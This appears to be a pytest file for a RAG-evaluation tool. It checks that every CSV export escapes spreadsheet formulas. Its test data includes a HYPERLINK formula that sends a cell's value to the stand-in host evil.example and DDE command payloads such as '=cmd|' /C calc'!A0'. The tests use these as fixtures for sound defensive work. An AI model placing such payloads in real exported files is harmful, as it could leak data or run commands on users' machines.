"""Every CSV the product writes opens in a spreadsheet with no formula executed (issue 10).

Each writer is driven through its real entry point (CLI command, export function, UI download helper) with
data that starts cells with ``=``, ``+``, ``-``, ``@`` and a tab; the file is read back with the csv module
and no cell may start a formula (a plain number such as ``-0.25`` is a number, not a formula)."""

from __future__ import annotations

import re

import json
from pathlib import Path

import pytest

from rageval_core import cli
from rageval_core.core.csvsafe import dumps_csv, dumps_frame, restore_cell, safe_cell
from rageval_core.data.datasets import dumps_dataset, load_dataset, save_dataset
from rageval_core.analysis.export import run_to_csv
from rageval_core.store.runs import RowInfo, Store
from rageval_core.core.types import MetricResult, Sample
from tests.support.csvcheck import cells, formula_cells

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = Sample(
    id=LINK,
    question="+1+1 は何ですか?",
    contexts=["-2+3 は 1 です。", "@SUM(1,2) は関数です。"],
    answer="\t=cmd|' /C calc'!A0",
    ground_truth="'=already quoted",
    metadata={"category": "@SUM(A1:A2)", "score": -0.5, "@note": "=1+1", "n": 3},
)


def test_safe_cell_prefixes_formula_text_and_leaves_numbers():
    assert safe_cell(LINK) == "'" + LINK
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx", "＝1", "'=x", "''-x"):
        assert safe_cell(text) == "'" + text
    for text in ("plain", "1-2", "", " =1", "'plain", "日本語"):
        assert safe_cell(text) == text
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None and safe_cell(True) is True
    assert safe_cell(float("-inf")) == "'-inf"


def test_restore_undoes_exactly_one_guard():
    for text in (LINK, "+1", "'=x", "''@x", "plain", "'plain", "-", "'", ""):
        assert restore_cell(safe_cell(text)) == text


def test_the_writer_neutralises_headers_and_cells():
    text = dumps_csv([[LINK, -0.25, "ok"]], ["=h", "value", "note"])
    assert formula_cells(text) == []
    assert cells(text) == [["'=h", "value", "note"], ["'" + LINK, "-0.25", "ok"]]


def test_dataset_csv_download_is_safe_and_loads_back_unchanged(tmp_path):
    data = dumps_dataset([HOSTILE], "csv")
    text = data.decode("utf-8-sig")
    assert formula_cells(text) == []
    header, row = cells(text)
    assert "'@note" in header and "'" + LINK in row and "-0.5" in row  # a number column stays a number
    back, as_json = load_dataset(data, "d.csv"), load_dataset(dumps_dataset([HOSTILE], "json"), "d.json")
    assert not back.errors and back.samples == as_json.samples and back.content_hash == as_json.content_hash
    assert back.samples[0].id == LINK and back.samples[0].ground_truth == "'=already quoted"
    saved = save_dataset([HOSTILE], tmp_path / "out.csv")  # `rag --out .csv`, labelled export
    assert formula_cells(saved.read_text(encoding="utf-8-sig")) == []


def test_ui_downloads_are_safe():
    from rageval_ui import data as data_ui
    from rageval_ui import testset as ts_ui

    ws = data_ui.load_upload("d.json", dumps_dataset([HOSTILE], "json"))
    assert formula_cells(data_ui.download_bytes(ws, "csv").decode("utf-8-sig")) == []
    run = ts_ui.RagRun(samples=[HOSTILE], k=1, provider="offline", model="m", embedder="e", chunks=1, hit_rate=None)
    assert formula_cells(ts_ui.rag_download(run, "csv").decode("utf-8-sig")) == []


@pytest.fixture()
def stored(tmp_path):
    store = Store(tmp_path / "r.sqlite")
    rid = store.create_run(
        scorers=["faithfulness"], dataset_name="d", dataset_hash="h", provider="offline", model="m",
        rows=[RowInfo(LINK, 0, "@SUM(A1)"), RowInfo("-bad", 1, None, False, "=HYPERLINK(\"x\") missing answer")],
    )
    store.save_task(rid, LINK, "faithfulness", [MetricResult(LINK, "faithfulness", "decomposed", 0.5)])
    return store, rid


def test_result_csv_export_and_the_ui_wide_csv_are_safe(stored):
    from rageval_ui.runs import export_files

    store, rid = stored
    text = run_to_csv(store, rid)
    assert formula_cells(text) == []
    body = cells(text)[1:]
    assert body[0][:2] == ["'" + LINK, "'@SUM(A1)"] and body[0][5] == "0.5"
    # Question, answer and reasons go through the same writer: a formula in the data stays text.
    from rageval_core.core.types import Sample
    with_texts = run_to_csv(store, rid, {LINK: Sample(id=LINK, question="=1+1", contexts=["c"], answer="+cmd|' /C calc'!A0")})
    assert formula_cells(with_texts) == []
    assert cells(with_texts)[1][3:5] == ["'=1+1", "'+cmd|' /C calc'!A0"]
    assert body[1][:3] == ["'-bad", "", "'=HYPERLINK(\"x\") missing answer"]
    wide = next(f for f in export_files(rid, store) if f.file_name.endswith(".csv"))
    assert formula_cells(wide.data) == []


def test_frame_writer_keeps_numbers_and_blanks_nan():
    import pandas as pd

    frame = pd.DataFrame({"row": [LINK, "b"], "delta": [-0.25, float("nan")]})
    text = dumps_frame(frame)
    assert formula_cells(text) == [] and cells(text) == [["row", "delta"], ["'" + LINK, "-0.25"], ["b", ""]]


def _rows(answer: str) -> list[dict]:
    return [
        {"id": LINK, "question": "機械学習とは何ですか?", "contexts": ["機械学習はデータから学ぶ手法です。"],
         "answer": answer, "ground_truth": "データから学ぶ手法です。", "category": "@SUM(A1)"},
        {"id": "-2", "question": "教師あり学習とは?", "contexts": ["教師あり学習はラベル付きデータを使います。"],
         "answer": "ラベル付きデータを使います。", "category": "+cat"},
    ]


def test_cli_evaluate_runs_export_and_compare_write_safe_csv(home, capsys):
    Path("a.json").write_text(json.dumps(_rows("機械学習はデータから学ぶ手法です。"), ensure_ascii=False), encoding="utf-8")
    Path("b.json").write_text(json.dumps(_rows("機械学習は量子計算で 42 倍速い。"), ensure_ascii=False), encoding="utf-8")
    base = ["--provider", "offline", "--metrics", "faithfulness", "--quiet"]
    assert cli.main(["evaluate", "a.json", *base, "--out", "a.csv"]) == 0
    assert cli.main(["evaluate", "b.json", *base, "--out", "b.json.out.json"]) == 0
    capsys.readouterr()
    runs = Store().list_runs()
    run_b, run_a = runs[0].id, runs[1].id
    assert cli.main(["runs", "export", run_a, "--out", "again.csv"]) == 0
    assert cli.main(["compare", run_a, run_b, "--all", "--out", "delta.csv"]) == 0
    for name in ("a.csv", "again.csv", "delta.csv"):
        text = Path(name).read_text(encoding="utf-8")
        assert formula_cells(text) == [], name
        assert "'" + LINK in [c for row in cells(text) for c in row], name
    deltas = [c for row in cells(Path("delta.csv").read_text(encoding="utf-8"))[1:] for c in row]
    drops = [float(c) for c in deltas if re.fullmatch(r"-\d+(?:\.\d+)?(?:e-?\d+)?", c)]
    assert drops and min(drops) <= -0.5  # the faithfulness drop, written as a number (not prefixed)


def test_cli_rag_out_csv_is_safe(home, capsys):
    doc = Path("doc.md")
    doc.write_text("# 規程\n\n=HYPERLINK(\"http://evil.example\",\"x\") は第一条の文言です。\n\n-1+1 は第二条の数式です。\n", encoding="utf-8")
    assert cli.main(["synth", str(doc), "--provider", "offline", "--per-section", "2", "--out", "ts.json", "--quiet"]) == 0
    assert cli.main(["rag", "ts.json", "--docs", str(doc), "--provider", "offline", "--k", "1", "--out", "rag.csv", "--quiet"]) == 0
    text = Path("rag.csv").read_text(encoding="utf-8-sig")
    assert formula_cells(text) == []
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'-1+1") for row in cells(text) for c in row)
    back = load_dataset("rag.csv")
    assert not back.errors and any("=HYPERLINK" in (s.ground_truth or "") for s in back.samples)
